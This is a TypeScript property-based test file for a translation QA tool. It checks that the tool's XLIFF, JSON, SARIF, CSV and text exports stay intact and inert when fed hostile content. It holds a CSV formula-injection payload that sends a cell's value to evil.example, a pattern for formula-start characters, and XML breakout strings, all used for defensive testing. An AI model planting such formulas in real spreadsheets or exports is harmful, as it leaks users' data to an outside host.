/**
 * The QA report's exported formats carry segment text, messages that quote it, file names and
 * waiver reasons: untrusted, wherever it lands. Reports made by the real checks from generated
 * hostile advisories (test/helpers/hostile-advisory.ts), with some fields then set to arbitrary
 * Unicode (lone surrogates, controls, `]]>`, quotes), must give: XLIFF that a strict XML parser
 * reads back to the same text (no CDATA, no breakout), JSON and SARIF that parse whatever the
 * content, and CSV that parses back to the same cells (RFC 4180) with no cell a spreadsheet runs
 * as a formula; and a text report whose only control characters are its line ends. Examples of
 * each are in qa-formats*.test.ts.
 */
import fc from 'fast-check';
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { SaxesParser } from 'saxes';
import { describe, expect, it } from 'vitest';
import { runChecks } from '../../src/check/run.js';
import type { Finding, QaReport } from '../../src/check/types.js';
import { readAndAlign } from '../../src/pipeline.js';
import { CSV_COLUMNS, qaToCsv } from '../../src/write/qa-csv.js';
import { qaToJson } from '../../src/write/qa-json.js';
import { qaToSarif } from '../../src/write/qa-sarif.js';
import { qaToText } from '../../src/write/qa-text.js';
import { qaToXliff } from '../../src/write/qa-xliff.js';
import { hostileAdvisory, inlineText, writeHostileAdvisory, type HostileAdvisory } from '../helpers/hostile-advisory.js';
import { parseCsv } from '../helpers/qa-fixture.js';
import { tempDir } from '../helpers/temp-dir.js';

/** Characters XML 1.0 cannot hold even escaped; tolk writes U+FFFD for them. */
const NOT_XML = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g;
const asXml = (text: string) => text.replace(NOT_XML, '\uFFFD');

/**
 * What a spreadsheet runs as a formula when a cell starts with it: = + - @ (OWASP), tab and
 * carriage return (OWASP) and NUL (OWASP ASVS 1.2.10), which Excel and LibreOffice skip before
 * reading the rest.
 */
const FORMULA_START = /^[=+\-@\t\r\0]/;

/** Text of every kind: hostile pieces and any UTF-16 code units (lone surrogates too). */
const anyText = fc.oneof(inlineText, fc.string({ unit: 'binary', maxLength: 30 }), fc.string({ unit: fc.constantFrom(
  '=', '+', '-', '@', '\t', '\r', '\n', '\0', '"', ',', ';', "'", '<', '>', '&', ']]>', '<![CDATA[', '\ud800', '\udc00', '\ufffe', 'a', ' ',
), maxLength: 12 }));

/** A report of the real checks on hostile advisories, with fields of some findings replaced by `texts`. */
function hostileReport(content: string, texts: string[]): QaReport {
  const report = runChecks(readAndAlign(content));
  let next = 0;
  const text = () => texts[next++ % texts.length];
  report.findings = report.findings.map((f, i): Finding => (i % 3 === 0 && texts.length > 0
    ? { ...f, message: text(), source: text(), target: text(), waived: i % 2 === 0 ? text() : null, segment: f.segment && text() }
    : f));
  return report;
}

/** The texts of <source>, <target> and <note> in order, parsed strictly; CDATA sections and errors are reported. */
function xliffTexts(xml: string): { texts: string[]; problems: string[] } {
  const parser = new SaxesParser({ xmlns: true });
  const texts: string[] = [];
  const problems: string[] = [];
  let open: string | null = null;
  let text = '';
  parser.on('opentag', (tag) => { if (['source', 'target', 'note'].includes(tag.local)) { open = tag.local; text = ''; } });
  parser.on('text', (t) => { if (open) text += t; });
  parser.on('cdata', () => { problems.push('a CDATA section'); });
  parser.on('closetag', (tag) => { if (tag.local === open) { texts.push(text); open = null; } });
  parser.on('error', (error) => { problems.push(error.message); });
  parser.write(xml).close();
  return { texts, problems };
}

/** What each XLIFF unit of `locale` holds: its first finding's English and translation (a unit is one per document and key). */
function unitTexts(report: QaReport, locale: string): string[] {
  const units = new Map<string, Finding[]>();
  for (const f of report.findings) {
    if (f.locale !== locale || f.unit === null) continue;
    const key = `${f.document}\n${f.unit}`;
    units.set(key, [...(units.get(key) ?? []), f]);
  }
  return [...units.values()].flatMap((findings) => {
    const target = findings.find((f) => f.target !== null)?.target ?? null;
    return [findings.find((f) => f.source !== null)?.source ?? '', ...(target === null ? [] : [target])];
  });
}

const csvCells = (f: Finding) => [f.check, f.severity, f.waived ?? '', f.locale, f.document, f.segment ?? '', f.unit ?? '',
  f.line === null ? '' : String(f.line), f.message, f.source ?? '', f.target ?? ''];

describe('QA exports of untrusted content (property)', () => {
  const root = tempDir('tolk-qa-export-untrusted-');
  let run = 0;
  const reports = fc.tuple(hostileAdvisory, hostileAdvisory, fc.array(anyText, { maxLength: 8 }))
    .map(([lv, nb, texts]) => ({ lv, nb, texts }));

  function withReport(check: (report: QaReport) => void) {
    return ({ lv, nb, texts }: { lv: HostileAdvisory; nb: HostileAdvisory; texts: string[] }) => {
      const dir = join(root, String(run++));
      try {
        // A formula that drops a number of the English: at least one finding quotes it.
        const formula = { form: 'p', pieces: [{ target: '=HYPERLINK("https://evil.example/?"&A1)', source: 'TLS 1.2 is on' }] };
        const report = hostileReport(writeHostileAdvisory(dir, { ...lv, lines: [...lv.lines, formula] }, nb, run % 2 === 0), texts);
        expect(report.findings.length).toBeGreaterThan(0);
        check(report);
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    };
  }

  it('XLIFF parses strictly, without CDATA, and holds each message, source and target as written', () => {
    fc.assert(fc.property(reports, withReport((report) => {
      for (const locale of report.locales) {
        const { texts, problems } = xliffTexts(qaToXliff(report, locale));
        expect(problems).toEqual([]);
        const written = new Set(texts);
        for (const f of report.findings.filter((x) => x.locale === locale)) {
          const note = f.waived !== null ? `${f.message} (waived: ${f.waived})` : f.message;
          expect(written.has(asXml(note)), note).toBe(true);
        }
        for (const text of unitTexts(report, locale)) expect(written.has(asXml(text)), text).toBe(true);
      }
    })), { numRuns: 60 });
  });

  it('JSON gives back every finding as it was; SARIF parses and has one result per finding', () => {
    fc.assert(fc.property(reports, withReport((report) => {
      const json = JSON.parse(qaToJson(report)) as QaReport;
      expect(json.findings).toEqual(JSON.parse(JSON.stringify(report.findings)));
      const sarif = JSON.parse(qaToSarif(report)) as { runs: { results: unknown[] }[] };
      expect(sarif.runs[0].results).toHaveLength(report.findings.length);
    })), { numRuns: 60 });
  });

  it('CSV parses back to the findings, cell for cell, and no cell starts as a formula', () => {
    fc.assert(fc.property(reports, withReport((report) => {
      const rows = parseCsv(qaToCsv(report).replace(/^\uFEFF/, ''));
      expect(rows[0]).toEqual([...CSV_COLUMNS]);
      expect(rows).toHaveLength(report.findings.length + 1);
      report.findings.forEach((f, i) => {
        const cells = rows[i + 1];
        expect(cells).toHaveLength(CSV_COLUMNS.length);
        csvCells(f).forEach((value, c) => {
          expect(cells[c], `${CSV_COLUMNS[c]} ${JSON.stringify(value)}`).not.toMatch(FORMULA_START);
          // A cell that would run gets one leading apostrophe, which a re-import takes off; the rest is as written.
          expect(FORMULA_START.test(value) ? cells[c] === `'${value}` : cells[c] === value || cells[c] === `'${value}`).toBe(true);
        });
      });
    })), { numRuns: 60 });
  });

  it('the text report holds no control character but its line ends and tabs: content cannot rewrite a terminal or split a line', () => {
    fc.assert(fc.property(reports, withReport((report) => {
      const text = qaToText(report, { colour: false });
      expect(text.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g) ?? []).toEqual([]);
      // One line per finding at most, whatever line breaks the text quotes.
      expect(text.split('\n').length).toBeLessThan(10 + report.findings.length * 8);
    })), { numRuns: 40 });
  });
});
